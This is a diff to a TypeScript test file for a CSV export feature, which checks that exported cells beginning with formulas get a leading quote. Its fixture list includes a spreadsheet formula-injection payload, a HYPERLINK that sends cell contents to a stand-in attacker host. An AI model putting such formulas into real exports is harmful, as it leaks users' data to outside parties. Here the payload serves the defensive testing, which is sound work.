@@ -3,7 +3,8 @@
 // text, with a leading quote, whether the button is given rows or reads a table.
 import { describe, expect, it } from "vitest";
 import { parseCsv } from "../../src/prospects/parse-csv.ts";
-import { tableToCsv, toCsv } from "../../web/src/components/csv-export.tsx";
+import { toCsv } from "../../src/prospects/write-csv.ts";
+import { tableRows } from "../../web/src/components/csv-export.tsx";
 
 const NASTY = [
   '=HYPERLINK("http://evil.test/?d="&A1,"click")',
@@ -14,7 +15,7 @@ const NASTY = [
   "\r=1+1",
 ];
 
-/** Just enough of an HTMLTableElement for tableToCsv: rows of cells with text. */
+/** Just enough of an HTMLTableElement for tableRows: rows of cells with text. */
 function fakeTable(rows: string[][]): HTMLTableElement {
   const tr = rows.map((cells) => ({
     querySelectorAll: () => cells.map((textContent) => ({ textContent })),
@@ -34,7 +35,7 @@ describe("workspace CSV export", () => {
   });
 
   it("a table read from the page: the same, after its whitespace is folded", () => {
-    const csv = tableToCsv(fakeTable([["Name", "Company"], ...NASTY.map((n) => [n, "Acme"])]));
+    const csv = toCsv(...tableRows(fakeTable([["Name", "Company"], ...NASTY.map((n) => [n, "Acme"])])));
     const back = parseCsv(csv);
     expect(back.header).toEqual(["Name", "Company"]);
     for (const [name] of back.rows) expect(name.startsWith("'")).toBe(true);
